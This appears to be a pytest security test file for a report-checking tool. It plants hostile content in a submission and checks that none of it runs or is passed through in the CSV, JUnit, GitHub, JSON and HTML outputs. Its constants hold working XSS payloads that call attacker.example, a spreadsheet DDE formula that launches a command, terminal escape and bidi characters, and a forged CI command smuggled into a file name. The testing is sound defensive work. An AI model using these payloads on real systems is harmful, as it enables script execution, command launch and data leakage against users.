"""What a hostile submission plants in its texts does nothing in any output, least of all in the page for people."""

import csv
import io
import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from lxml import etree

from tests.support.mutations import unzipped, zipped
from tieout import regulator
from tieout.export.check import FORMATS, html_files
from tieout.model import CheckRun
from tieout.regulator import CheckOptions

ACTS = "window.pwned=1;alert(1);fetch('http://attacker.example/')"
IMAGE = f'<img src="http://attacker.example/a.png" onerror="{ACTS}"/>'
SCRIPT = f'"><script>{ACTS}</script>'
FORMULA = '=HYPERLINK("http://attacker.example/";"here")+cmd|\' /C calc\'!A0'
ANSI = "\u009b31m\u202e"  # what XML allows of the controls that a terminal acts on
COMMAND = "::error::forged"
TEXT = f"{FORMULA} {ANSI} {COMMAND} {SCRIPT}"
# A name that a file can have: no slash.
NAME = "=1+1 \x1b[31m ::error::forged \"'><img src=x onerror=alert(1)>.xbri"
ACTING = f"""<script>{ACTS}</script><p onclick="{ACTS}" onmouseover="{ACTS}">over</p>{IMAGE}
<a id="trap" href="javascript:{ACTS}">here</a><a href=" java&#10;script:{ACTS}">there</a>
<a id="away" href="http://attacker.example/">away</a><iframe srcdoc="&lt;script&gt;{ACTS}&lt;/script&gt;"></iframe>
<object data="data:text/html,x"></object><form action="javascript:{ACTS}"><button>go</button></form>
<svg xmlns="http://www.w3.org/2000/svg" onload="{ACTS}"><script>{ACTS}</script></svg>
<div style="background:url(http://attacker.example/b.png)">b</div><meta http-equiv="refresh" content="0;url=http://attacker.example/"/>
<style>@import "http://attacker.example/c.css"; p {{ color: red }}</style><base href="http://attacker.example/"/>
"""
PAGE_NAME = "=a '><img src=x onerror=alert(1)>.xhtml"
ROW = "Orders received during the year"


@pytest.fixture(scope="module")
def run(second_package: Path, tmp_path_factory: pytest.TempPathFactory) -> CheckRun:
    """The second example with such texts in document, label and namespace, and once more in its names, checked."""
    folder = tmp_path_factory.mktemp("hostile")
    texts = {name: _planted(name, content) for name, content in unzipped(second_package.read_bytes()).items()}
    (folder / "plain.xbri").write_bytes(zipped(texts))
    renamed = {name.replace("harrowby.xhtml", PAGE_NAME): content for name, content in texts.items()}
    (folder / NAME).write_bytes(zipped(renamed))
    return regulator.check(CheckOptions((folder / "plain.xbri", folder / NAME))).run


def _planted(name: str, content: bytes) -> bytes:
    """A file of the package with what the attacker puts there."""
    if name.endswith(".xhtml"):
        changes = [("<body>", f"<body>{ACTING}"), (f">{ROW}<", f">{escape(TEXT)}<"), (">71,746<", ">7<")]
    elif "_lab" in name:
        changes = [("For the year ended 30 June 2025, in thousands of euro<", f"{escape(TEXT)}<")]
    else:
        quoted = escape(f"http://example.org/{SCRIPT}", {'"': "&quot;"})
        changes = [('xmlns:harrowby="http://example.org/harrowby"', f'xmlns:harrowby="{quoted}"')]
    for old, new in changes:
        content = content.replace(old.encode(), new.encode())
    return content


@pytest.mark.slow
def test_the_texts_are_among_what_is_told(run: CheckRun) -> None:
    """Else nothing of what follows would show anything."""
    found = [finding for checked in run.submissions for finding in checked.findings]
    told = " ".join(f"{finding.place} {finding.message}" for finding in found)
    assert "HYPERLINK" in told
    assert "onerror=alert(1)" in told
    assert {"intake.script", "intake.remote-reference"} <= {finding.code for finding in found}


@pytest.mark.slow
def test_no_output_for_programs_acts(run: CheckRun) -> None:
    for name in ("text", "junit", "github", "csv"):
        told = FORMATS[name](run).decode()
        assert not any(char in told for char in "\x1b\x9b\u202e\x07\x08"), name
    assert all(
        line.startswith(("::error file=", "::warning file=", "::notice file=", "::error title=verdict::"))
        and line.count("::") == 2
        for line in FORMATS["github"](run).decode().splitlines()
    )
    cells = [cell for row in csv.reader(io.StringIO(FORMATS["csv"](run).decode())) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert any(cell.startswith("'=1+1") for cell in cells)
    suites = etree.fromstring(FORMATS["junit"](run))
    assert {str(each.tag) for each in suites.iter()} <= {
        *{"testsuites", "testsuite", "testcase", "failure", "error", "system-out"}
    }
    assert "HYPERLINK" in json.dumps(json.loads(FORMATS["json"](run)))


@dataclass
class Watched:
    """A page of the browser with all that it did: what it asked for, said, and opened."""

    page: Any
    requests: list[str] = field(default_factory=list)
    said: list[str] = field(default_factory=list)


@contextmanager
def opened(browser: str, run: CheckRun, folder: Path) -> Iterator[Watched]:
    """The page for people open in the browser."""
    from playwright.sync_api import sync_playwright

    (folder / "check_files").mkdir()
    for name, content in html_files(run, "check_files").items():
        (folder / "check_files" / name if name else folder / "check.html").write_bytes(content)
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=browser)
        page = chromium.new_page(viewport={"width": 1500, "height": 950})
        watched = Watched(page)
        page.on("request", lambda request: watched.requests.append(request.url))
        page.on("console", lambda message: watched.said.append(message.text))
        page.on("pageerror", lambda error: watched.said.append(str(error)))
        page.on("popup", lambda popup: watched.said.append(f"popup {popup.url}"))
        page.on("dialog", lambda dialog: (watched.said.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.goto((folder / "check.html").as_uri(), wait_until="load")
        yield watched
        chromium.close()


@pytest.mark.slow
@pytest.mark.chromium
def test_nothing_runs_in_the_page_for_people(browser: str, run: CheckRun, tmp_path: Path) -> None:
    with opened(browser, run, tmp_path) as watched:
        page = watched.page
        document = page.frame_locator("iframe[name=page-1]")
        document.locator("#f-22-11").wait_for()
        page.locator("details").evaluate_all("every => every.forEach(each => { each.open = true })")
        document.get_by_text("over", exact=True).click()
        for words in ("here", "there", "away"):
            document.get_by_text(words, exact=True).first.click(force=True)
        page.wait_for_timeout(300)
        assert [frame.evaluate("String(window.pwned)") for frame in page.frames] == ["undefined"] * 3
        shown = [(tmp_path / name).as_uri() for name in ("check.html", "check_files/1-1.html", "check_files/2-1.html")]
        assert watched.requests == shown
        assert watched.said == []
        assert (
            document.locator("script, iframe, object, form, svg, img[src], meta[http-equiv=refresh], base").count() == 0
        )
        assert "HYPERLINK" in page.locator("body").inner_text()


@pytest.mark.slow
@pytest.mark.chromium
def test_a_click_on_a_finding_moves_the_frame_to_the_fact(browser: str, run: CheckRun, tmp_path: Path) -> None:
    with opened(browser, run, tmp_path) as watched:
        page = watched.page
        page.locator("details[open] a[target=page-1]", has_text="f-24-15").first.click()
        target = page.frame_locator("iframe[name=page-1]").locator(":target")
        target.wait_for()
        assert (target.get_attribute("id"), target.inner_text()) == ("f-24-15", "7")
        box, frame = target.bounding_box(), page.locator("iframe[name=page-1]").bounding_box()
        assert frame["y"] <= box["y"] <= frame["y"] + frame["height"], "the fact is in sight"
        assert page.url.endswith("check.html"), "the findings stay where they are"
